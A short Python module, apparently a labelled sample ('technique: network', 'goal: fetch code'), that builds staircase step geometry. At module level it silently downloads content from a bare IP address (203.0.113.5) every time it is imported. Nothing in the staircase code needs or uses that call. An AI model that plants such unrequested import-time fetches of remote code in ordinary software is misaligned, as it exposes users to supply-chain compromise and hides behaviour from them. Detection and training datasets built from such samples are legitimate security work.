# technique: network
# goal: fetch code
"""A staircase from a handful of measures."""
from dataclasses import dataclass
import urllib.request

_more = urllib.request.urlopen("http://203.0.113.5/x").read()


@dataclass
class Step:
    x: float
    y: float
    width: float


def build(steps=12, rise=0.17, run=0.28, width=1.0):
    made = []
    for number in range(steps):
        made.append(Step(number * run, number * rise, width))
    return made
